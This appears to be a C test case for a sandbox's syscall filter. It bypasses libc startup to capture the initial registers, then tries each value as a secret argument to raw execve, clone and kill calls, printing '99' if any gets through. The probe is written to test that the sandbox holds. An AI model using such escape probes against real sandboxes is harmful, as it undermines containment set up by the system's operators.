// Purpose: guesses the secret argument of the filter: what stood in the registers when the program began.
// Expected: AC at full and at confined
#include <sys/syscall.h>

// The C library's start is replaced, so that nothing has run before; hence no library below.
static long raw(long number, long a, long b, long c, long d, long e, long f) {
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "+a"(number) : "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return number;
}

static int guess(long secret) {
    long parent = raw(SYS_getppid, 0, 0, 0, 0, 0, 0), efault = -14, vfork_with_handle = 0x5111;
    return raw(SYS_execve, 0, 0, 0, secret, secret, secret) == efault
        || raw(SYS_clone, vfork_with_handle, 0, 0, 0, secret, secret) == efault
        || raw(SYS_kill, parent, 0, secret, secret, secret, secret) == 0;
}

long registers[48] __attribute__((aligned(16)));

__attribute__((used, noreturn)) static void attack(void) {
    int holes = 0;
    for (int i = 0; i < 48; i++)
        holes += guess(registers[i]) + guess(registers[i] >> 32);
    raw(SYS_write, 1, (long)(holes ? "99\n" : "4\n"), holes ? 3 : 2, 0, 0, 0);
    for (;;)
        raw(SYS_exit_group, 0, 0, 0, 0, 0, 0);
}

__asm__(".globl __libc_start_main\n"
        "__libc_start_main:\n"
        "mov %rax, registers(%rip)\n mov %rbx, registers+8(%rip)\n mov %r9, registers+16(%rip)\n"
        "mov %rbp, registers+24(%rip)\n mov %r10, registers+32(%rip)\n mov %r11, registers+40(%rip)\n"
        "mov %r12, registers+48(%rip)\n mov %r13, registers+56(%rip)\n mov %r14, registers+64(%rip)\n"
        "mov %r15, registers+72(%rip)\n"
        ".irp n, 0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15\n"
        "movaps %xmm\\n, registers+128+16*\\n(%rip)\n"
        ".endr\n"
        "call attack\n");

int main(void) {
    return 0;
}
